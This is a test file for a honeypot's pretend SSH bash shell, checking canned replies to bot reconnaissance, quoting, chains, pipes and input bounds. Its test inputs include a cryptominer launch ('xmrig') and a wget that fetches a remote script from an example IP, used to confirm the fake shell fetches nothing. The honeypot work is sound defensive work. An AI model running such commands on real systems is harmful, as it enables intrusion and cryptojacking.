// The pretend bash: canned answers bots check, quoting, chains and pipes, and its bounds.

import { describe, expect, it } from 'vitest';

import { shellUser } from './channel.js';
import { answerLine, segments } from './shell.js';

const root = shellUser('root');

describe('ssh fake shell', () => {
  it('answers uname -a, id and whoami like Ubuntu 22.04 as root', () => {
    expect(answerLine('uname -a', root, true).output).toMatch(/^Linux server 5\.15\.0-105-generic/);
    expect(answerLine('id', root, true).output).toBe('uid=0(root) gid=0(root) groups=0(root)\n');
    expect(answerLine('whoami', shellUser('admin'), true).output).toBe('admin\n');
  });

  it('says command not found the way a login bash and an exec bash do', () => {
    expect(answerLine('xmrig --donate 0', root, true)).toMatchObject({ exitCode: 127,
      output: '-bash: xmrig: command not found\n' });
    expect(answerLine('xmrig', root, false).output)
      .toBe('bash: line 1: xmrig: command not found\n');
  });

  it('answers each command of a chain, and filters a pipe through grep and wc', () => {
    const answer = answerLine("echo 'a;b' && whoami; cat /proc/cpuinfo | grep 'model name' | " +
      'wc -l', root, true);
    expect(answer.output).toBe('a;b\nroot\n2\n');
  });

  it('fails downloads without fetching anything', () => {
    const answer = answerLine('wget http://198.51.100.5/x.sh', root, false);
    expect(answer.output).toContain('Connecting to 198.51.100.5:80... failed');
  });

  it('keeps quotes together and stops at a bounded number of segments', () => {
    expect(segments('echo "x && y" || id')).toEqual(['echo "x && y"', 'id']);
    expect(segments('id;'.repeat(1000)).length).toBeLessThanOrEqual(32);
  });

  it('ends on exit', () => {
    expect(answerLine('exit', root, true).exit).toBe(true);
  });
});
